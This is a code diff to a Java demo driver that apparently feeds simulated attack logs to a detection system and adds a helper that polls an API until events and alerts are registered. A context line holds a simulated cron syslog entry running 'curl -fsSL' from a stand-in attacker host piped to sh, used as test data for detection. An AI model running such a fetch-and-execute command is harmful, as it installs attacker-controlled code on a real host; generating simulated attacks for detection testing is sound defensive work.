@@ -130,6 +130,9 @@ final class DemoStory {
                 2340,
                 "(root) CMD (curl -fsSL http://" + ATTACKER + "/u.sh | sh)"));
         sendSyslog(syslog);
+        // syslog travels on its own connection: let it reach detection before the later cloud events, so the
+        // correlation watermark (latest event time minus 30 s) does not pass the SSH brute force before it arrives
+        awaitDetected("linux-servers", syslog.size(), 4);
 
         out.println("  6. cloud: console login without MFA, new access key, AdministratorAccess, CloudTrail stopped");
         Instant c = t.plusSeconds(400);
@@ -296,6 +299,23 @@ final class DemoStory {
             o.flush();
         }
         events += messages.size();
+    }
+
+    /** Waits (at most 20 s) until a source has {@code events} accepted records and {@code alerts} alerts. */
+    private void awaitDetected(String source, int events, int alerts) throws IOException, InterruptedException {
+        long deadline = System.nanoTime() + 20_000_000_000L;
+        String name = URLEncoder.encode(source, StandardCharsets.UTF_8);
+        while (System.nanoTime() < deadline) {
+            ApiClient.Response s = admin.get("/api/v1/sources/" + name);
+            ApiClient.Response a = admin.get("/api/v1/alerts?size=1&source=" + name);
+            if (s.ok()
+                    && a.ok()
+                    && JSON.readTree(s.body()).path("stats").path("accepted").asLong() >= events
+                    && JSON.readTree(a.body()).path("total").asLong() >= alerts) {
+                return;
+            }
+            Thread.sleep(100);
+        }
     }
 
     private Result awaitAlerts(Instant since) throws IOException, InterruptedException {
